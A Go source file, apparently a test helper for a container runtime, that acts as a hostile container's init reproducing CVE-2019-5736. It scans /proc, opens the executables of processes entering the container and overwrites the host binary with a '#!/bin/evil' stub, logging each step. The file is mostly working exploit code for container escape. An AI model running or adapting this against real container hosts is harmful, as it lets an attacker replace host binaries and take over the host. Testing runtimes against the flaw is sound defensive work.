// SPDX-License-Identifier: Apache-2.0

// Command attack is the init of a hostile container. It waits for processes
// that enter, opens their program (/proc/PID/exe), and overwrites it once they
// have gone (CVE-2019-5736). It says what it did on stdout: "opened NAME" for a
// program that is not its container's shell, "wrote NAME" for one that it has
// overwritten.
package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
)

func main() {
	fmt.Println("ready")
	seen := map[string]int{}
	for {
		for _, pid := range entered() {
			fd, err := syscall.Open(fmt.Sprintf("/proc/%d/exe", pid), syscall.O_RDONLY, 0)
			if err != nil {
				continue
			}
			name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if _, known := seen[name]; known || err != nil || name == "/bin/busybox" {
				_ = syscall.Close(fd)
				continue
			}
			seen[name] = fd
			fmt.Println("opened", name)
		}
		for name, fd := range seen {
			if fd >= 0 && overwrite(fd) {
				fmt.Println("wrote", name)
				seen[name] = -1
			}
		}
	}
}

func entered() []int {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	names, _ := dir.Readdirnames(-1)
	_ = dir.Close()
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid > 1 {
			pids = append(pids, pid)
		}
	}
	return pids
}

// overwrite succeeds only if the file can be written and nobody executes it.
func overwrite(fd int) bool {
	for _, flags := range []int{syscall.O_WRONLY | syscall.O_TRUNC, syscall.O_WRONLY} {
		w, err := syscall.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags, 0)
		if err != nil {
			continue
		}
		_, err = syscall.Write(w, []byte("#!/bin/evil\n"))
		_ = syscall.Close(w)
		if err == nil {
			return true
		}
	}
	return false
}
